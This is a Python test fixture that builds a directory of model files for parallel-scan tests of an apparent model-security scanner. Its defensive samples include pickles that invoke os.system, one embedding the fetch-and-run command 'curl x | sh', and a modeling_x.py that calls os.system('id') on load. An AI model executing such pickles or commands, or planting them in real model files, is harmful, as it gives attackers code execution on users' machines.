"""A small fleet of model files for the parallel-scan tests: every kind of result the engine
gives (findings, limits, skipped, errors, a repository pass) and more files than one batch."""

from __future__ import annotations

import json
import os
import pickle
from pathlib import Path

import msgspec

from modelshield.core.findings import Report
from modelshield.core.limits import Limits
from modelshield.core.policy import Policy
from modelshield.scanner.engine import BATCH_BYTES, BATCH_FILES
from tests.cli.conftest import reduce_os_system_pickle

#: Limits that the tree trips on purpose: one file above max_file_bytes, one pickle that runs
#: past max_opcodes.
POLICY = Policy(limits=Limits(max_file_bytes=BATCH_BYTES + 2 * 1024 * 1024, max_opcodes=5_000))


def build_fleet(root: Path) -> list[Path]:
    """Write the tree under ``root``; return the inputs to scan (a missing one included)."""
    models = root / "models"
    hub = models / "hub-model"
    hub.mkdir(parents=True)
    (hub / "config.json").write_text(
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}})
    )
    (hub / "modeling_x.py").write_text("import os\n\nclass XModel:\n    x = os.system('id')\n")
    (hub / "pytorch_model.bin").write_bytes(reduce_os_system_pickle())
    for i in range(BATCH_FILES + 8):
        (models / f"small-{i:03d}.pkl").write_bytes(pickle.dumps({"layer": i, "w": [0.5] * i}))
    (models / "evil.pkl").write_bytes(reduce_os_system_pickle(b"curl x | sh"))
    # Alone in its batch: about the batch size in bytes.
    (models / "large.pkl").write_bytes(pickle.dumps(b"\0" * BATCH_BYTES, protocol=4))
    # Above max_file_bytes: skipped, as a serial scan skips it.
    (models / "huge.pkl").write_bytes(pickle.dumps(b"\0" * (BATCH_BYTES + 3 * 1024 * 1024)))
    # Past max_opcodes: a SCAN-LIMIT gap.
    (models / "long.pkl").write_bytes(pickle.dumps(list(range(20_000)), protocol=0))
    (models / "truncated.pkl").write_bytes(reduce_os_system_pickle()[:-3])
    (models / "empty.bin").write_bytes(b"")
    if hasattr(os, "mkfifo"):
        os.mkfifo(models / "pipe.pkl")
    (root / "empty-dir").mkdir()
    single = root / "single.pt"
    single.write_bytes(pickle.dumps({"w": 1.0}))
    return [models, single, root / "missing.pkl", root / "empty-dir"]


def comparable(report: Report) -> tuple[object, ...]:
    """Everything a report says but how long it took."""
    results = [msgspec.structs.replace(r, duration_s=0.0) for r in report.results]
    return (report.tool, results, report.repositories, report.suppressed)
